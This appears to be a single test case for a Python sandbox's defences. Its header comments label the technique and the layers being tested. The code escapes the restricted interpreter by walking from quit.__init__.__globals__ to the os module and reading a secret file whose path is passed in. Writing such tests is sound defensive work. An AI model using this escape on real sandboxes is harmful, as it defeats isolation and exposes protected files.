# class: object graph walk
# technique: a forbidden attribute in the body of a class
# layers: analyzer, interpreter, landlock, seccomp, identity
# code: user
# witness: secret
host = _items[0]["json"]
class Holder:
    held = quit.__init__.__globals__
g = Holder.held
os = g["sys"].modules["os"]
return [{"json": {"reached": os.read(os.open(host["secret"], 0), 4096).decode()}}]
